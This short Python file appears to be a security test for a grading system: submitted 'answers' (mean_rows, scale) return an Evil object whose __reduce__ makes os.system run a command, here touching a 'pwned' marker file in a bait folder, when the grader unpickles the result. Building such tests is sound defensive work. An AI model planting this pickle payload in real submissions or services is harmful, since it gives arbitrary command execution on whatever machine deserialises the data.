"""An answer that runs something when it is unpickled."""
# %% mean_rows
class Evil:
    def __reduce__(self):
        return os.system, ("touch " + BAIT["folder"] + "/pwned",)
    __getstate__ = __reduce_ex__ = lambda self, *a: (os.system, ("touch " + BAIT["folder"] + "/pwned",))

def mean_rows(X):
    return Evil()
# %% scale
def scale(x, factor):
    return np.array([Evil()], dtype=object), Evil()
